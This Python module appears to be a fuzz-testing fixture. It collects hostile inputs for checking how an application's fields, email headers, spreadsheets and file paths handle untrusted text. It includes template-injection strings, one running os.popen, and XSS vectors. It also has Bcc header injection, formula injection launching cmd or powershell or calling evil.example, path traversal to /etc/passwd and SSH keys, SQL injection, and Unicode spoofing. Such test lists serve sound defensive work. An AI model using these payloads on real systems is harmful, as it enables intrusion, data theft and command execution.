"""What people put into fields to make something happen elsewhere."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # templates
    "{{ 1337*7331 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for i in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "${1337*7331}",
    "#{1337*7331}",
    "<%= 1337*7331 %>",
    "{company}",
    "{0.__class__}",
    "%(company)s",
    "%s%s%n",
    # markup
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" style="position:fixed" x="',
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!--",
    "--><b>",
    "]]>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "\\u003cscript\\u003e",
    "<!--<script>",
    "\u2028alert(1)\u2029",
    # links
    "http://evil.example",
    "Приз https://evil.example/x",
    "www.evil.example.com",
    "evil-shop.ru",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "mailto:x@evil.example",
    "//evil.example/x",
    "\\\\evil\\share",
    # headers
    "x\r\nBcc: b@evil.example",
    "x\nSubject: чужая тема",
    "x\n\nТело письма",
    "x\r\n\r\n<html>",
    "x\rX-Header: y",
    "x%0d%0aBcc: b@evil.example",
    "x\u0085Bcc: b@evil.example",
    "x\x0bBcc: b",
    "=?utf-8?b?QmNjOiBi?=",
    "a@x.example, b@evil.example",
    "Ivan <boss@corp.example>, x",
    '"x" <b@evil.example>',
    # formulas
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+7916",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1',
    "=IMPORTDATA(A1)",
    "＝1+1",
    # paths
    "../../etc/passwd",
    "..\\..\\windows",
    "CON",
    "/etc/passwd",
    "a" * 300,
    "x\0y",
    # text that is not what it looks like
    "Мария\u202eяирaМ",
    "Мар\u200bия",
    "\ufeffМария",
    "Мария\u0000",
    "\ud800",
    "\U000e0041",
    "1); DROP TABLE clients;--",
    "null",
    "None",
    "undefined",
    "NaN",
)

_BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "&#13;&#10;",
    "\\r\\n",
    "=0D=0A",
    "\r\n ",
)
_HEADERS = (
    "Bcc: b@evil.example", "Cc: <b@evil.example>", "To: b@evil.example", "Subject: чужая тема", "Content-Type: text/html\r\n\r\n<b>",
    "X-Unsent: 0", "List-Unsubscribe: <https://evil.example>",
)  # fmt: skip
_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r\n=",
    "\ufeff=",
    "\u200b=",
    "\u00a0=",
    "\0=",
    '"=',
    "';=",
    "＝",
    "＠",
    "|",
    "%0A-3+3+",
    "\x1a=",
)
_FORMULAS = (
    "1+1", 'HYPERLINK("https://evil.example","счёт")', "cmd|' /C calc'!A0", 'IMPORTXML("https://evil.example","//a")',
    'WEBSERVICE("https://evil.example")', "SUM(A1:A9)*cmd|' /C powershell'!A0", 'DDE("cmd";"/C calc";"x")',
)  # fmt: skip
_AROUND = (
    "{{{{ {} }}}}",
    "{{{{{{ {} }}}}}}",
    "{{% if {} %}}x{{% endif %}}",
    "{{%- set x = {} -%}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "[[ {} ]]",
    "@({})",
)
_CODE = (
    "1337*7331", "''.__class__.__mro__", "config.items()", "self._TemplateReference__context", "lipsum.__globals__", "range(10**9)|list",
    "cycler.__init__.__globals__.os.popen('id').read()", "request|attr('application')",
)  # fmt: skip
_TAGS = (
    "<script{0}>alert(1)</script{0}>", "<img{0}src=x{0}onerror=alert(1)>", "<svg{0}onload=alert(1)>", "<iframe{0}src=javascript:alert(1)>",
    "<a{0}href='javascript:alert(1)'>x</a>", "<form{0}action=https://evil.example><input>", "<object{0}data=https://evil.example>",
    "<body{0}onload=alert(1)>", "<link{0}rel=stylesheet{0}href=https://evil.example>", "<math{0}><mtext></form><img src=x>",
    "<template{0}><script>alert(1)</script>", "<details{0}open{0}ontoggle=alert(1)>",
)  # fmt: skip
_GAPS = (" ", "\t", "\n", "/", "\x0c", " x='>' ")
_ADDRESSES = (
    "https://evil.example", "HTTP://EVIL.EXAMPLE", "https:evil.example", "https:\\\\evil.example", "http://romashka.example@evil.example",
    "https://romashka.example.evil.example", "https://rоmashka.example", "java\tscript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "\\\\evil.example\\x", "tel:+79161234567", "ftp://evil.example", "xn--e1afmkfd.xn--p1ai",
)  # fmt: skip
_SIGNS = tuple(
    "\u202a\u202d\u202e\u2066\u2067\u2068\u200b\u200c\u200d\u200e\u200f\u2060\u00ad\u034f\u115f\u3164\ufe0f\ufffe\ud83d\udc00"
)
_UP = ("../", "..\\", "%2e%2e%2f", "....//", "..%c0%af", "/")
_FILES = (
    "etc/passwd",
    "etc/passwd\0.pdf",
    "windows\\win.ini",
    "NUL",
    "x.eml:ads",
    "~/.ssh/id_rsa",
    "aux.csv",
    "x\r\n.eml",
)

#: The same ideas in every spelling, for all sinks at once.
VARIANTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(f"x{gap}{header}" for gap in _BREAKS for header in _HEADERS),
            *(start + formula for start in _STARTS for formula in _FORMULAS),
            *(around.format(code) for around in _AROUND for code in _CODE),
            *(tag.format(gap) for tag in _TAGS for gap in _GAPS),
            *(up * 3 + name for up in _UP for name in _FILES),
            *(f"Приз {address}" for address in _ADDRESSES),
            *(f"Мар{sign}ия" for sign in _SIGNS),
        )
    )
)
